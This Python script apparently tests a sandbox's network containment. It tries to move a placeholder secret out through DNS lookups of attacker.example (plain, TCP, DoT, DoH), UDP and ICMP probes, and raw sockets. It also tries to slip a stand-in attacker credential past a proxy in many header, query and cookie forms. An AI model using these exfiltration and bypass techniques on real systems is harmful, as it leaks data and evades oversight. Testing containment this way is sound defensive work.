"""Tries to carry something out: by names, by other protocols, and with a credential of its own."""
import re
import tricks
from tricks import *

LOOT = "c2VjcmV0LWxvb3Q"


def query(name, kind=1, flags=0x0100):
    labels = b"".join(bytes([len(part)]) + part for part in name.split(b"."))
    return struct.pack(">HHHHHH", 4660, flags, 1, 0, 0, 0) + labels + b"\0" + struct.pack(">HH", kind, 1)


def ask_udp(server, data, port=53, wait=1):
    sock = socket.socket(socket.AF_INET6 if ":" in server else socket.AF_INET, socket.SOCK_DGRAM)
    sock.settimeout(wait)
    sock.connect((server, port))
    sock.send(data)
    return sock.recv(4096)


def resolver():
    return re.search(r"nameserver (\S+)", open("/etc/resolv.conf").read()).group(1)


@trick
def interfaces():
    return open("/proc/net/dev").read().encode() + open("/proc/net/route").read().encode()


@trick
def dns_label():
    name = f"{LOOT}.attacker.example"
    return socket.getaddrinfo(name, 80)[0][4][0].encode()


@trick
def dns_label_v6():
    return socket.getaddrinfo(f"{LOOT}.attacker.example", 80, socket.AF_INET6)[0][4][0].encode()


@trick
def dns_any_server():
    """Every address answers as the box's own resolver: 8.8.8.8 is nobody else."""
    return b"|".join(ask_udp(at, query(LOOT.encode() + b".attacker.example")) for at in ("8.8.8.8", resolver()))


@trick
def dns_records():
    return b"|".join(ask_udp(resolver(), query(LOOT.encode() + b".attacker.example", kind)) for kind in (16, 10, 5, 65, 255))


@trick
def dns_odd_names():
    names = [b"evil\0.example", b"a.b\0c.example", b"*.example", b"\xc3\xa9.example", b"x" * 63 + b"." + b"y" * 63]
    return b"|".join(ask_udp(resolver(), query(name)) for name in names)


@trick
def dns_tcp():
    data = query(LOOT.encode() + b".attacker.example")
    with socket.create_connection(("9.9.9.9", 53), WAIT) as sock:
        sock.sendall(struct.pack(">H", len(data)) + data)
        return sock.recv(4096)


@trick
def dns_tls():
    with secure(socket.create_connection(("9.9.9.9", 853), WAIT), "dns.quad9.net") as sock:
        data = query(LOOT.encode() + b".attacker.example")
        return talk(sock, struct.pack(">H", len(data)) + data)


@trick
def dns_https():
    with secure(socket.create_connection(("9.9.9.9", 443), WAIT), "dns.quad9.net") as sock:
        return talk(sock, request("/dns-query?dns=" + LOOT, host="dns.quad9.net", auth=False))


def refused_udp(host, port):
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.settimeout(1)
    sock.connect((host, port))
    try:
        sock.send(b"\xc0" + LOOT.encode() * 100)
        return sock.recv(100)
    except (ConnectionRefusedError, TimeoutError) as error:
        return type(error).__name__.encode()


@trick
def udp():
    return b" ".join(refused_udp("203.0.113.9", port) for port in (443, 123, 161, 4500, 65000))


@trick
def sockets():
    """Raw, packet, ICMP, SCTP, vsock, netlink: none can be had."""
    kinds = [(socket.AF_INET, socket.SOCK_RAW, 1), (socket.AF_INET6, socket.SOCK_RAW, 58), (17, socket.SOCK_RAW, 0x0300),
             (17, socket.SOCK_DGRAM, 0x0300), (socket.AF_INET, socket.SOCK_STREAM, 132), (40, socket.SOCK_STREAM, 0),
             (16, socket.SOCK_RAW, 0), (38, socket.SOCK_SEQPACKET, 0)]
    got = []
    for kind in kinds:
        try:
            socket.socket(*kind).close()
            got.append(str(kind))
        except OSError:
            pass
    try:
        sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 1)
        sock.settimeout(1)
        sock.connect(("203.0.113.9", 0))
        sock.send(b"\x08\0\0\0\0\x01\0\x01" + LOOT.encode())
        sock.recv(100)
        got.append("icmp to the outside")
    except OSError:
        pass
    return " ".join(got).encode() or b"nothing"


def with_credential(name, **options):
    def attempt():
        return ask(f"/own/{name}", auth=False, **options)

    TRICKS[f"own_{name}"] = attempt


MINE = "attacker-key-0123456789"
BASIC = base64.b64encode(f"me:{MINE}".encode()).decode()
for name, header in {
    "bearer": f"Authorization: Bearer {MINE}", "basic": f"Authorization: Basic {BASIC}",
    "token": f"Authorization: token {MINE}", "aws": f"Authorization: AWS4-HMAC-SHA256 Credential={MINE}",
    "bare": f"Authorization: {MINE}", "x_api_key": f"X-Api-Key: {MINE}", "api_key": f"API-Key: {MINE}",
    "goog": f"x-goog-api-key: {MINE}", "auth_token": f"X-Auth-Token: {MINE}", "private_token": f"PRIVATE-TOKEN: {MINE}",
    "deploy_token": f"Deploy-Token: {MINE}", "rapid": f"X-RapidAPI-Key: {MINE}", "amz": f"X-Amz-Security-Token: {MINE}",
    "protocol": f"Sec-WebSocket-Protocol: realtime, openai-insecure-api-key.{MINE}",
}.items():
    with_credential(name, headers=[header])


def with_query(name, query):
    TRICKS[f"own_{name}"] = lambda: ask(f"/own/{name}?{query}", auth=False)


for name, text in {
    "query_key": f"key={MINE}", "query_token": f"a=1&access_token={MINE}", "query_case": f"API_KEY={MINE}",
    "query_encoded": f"%6bey={MINE}", "query_semicolon": f"a=1;key={MINE}", "query_array": f"key[]={MINE}",
    "query_signed": f"X-Amz-Signature={MINE}&X-Amz-Credential=a", "query_sas": f"sv=1&sig={MINE}",
}.items():
    with_query(name, text)


@trick
def own_beside():
    """The right placeholder in its slot, and a second credential beside it."""
    return ask("/own/beside", headers=[f"X-Api-Key: {MINE}"])


@trick
def own_twice():
    return ask("/own/twice", headers=[f"Authorization: Bearer {MINE}"])


@trick
def own_userinfo():
    with api() as sock:
        line = f"GET https://me:{MINE}@{API}/own/userinfo HTTP/1.1\r\nHost: {API}\r\nConnection: close\r\n\r\n"
        return talk(sock, line.encode())


@trick
def own_cookie():
    return ask("/own/cookie", auth=False, headers=[f"Cookie: session={MINE}"])


main()
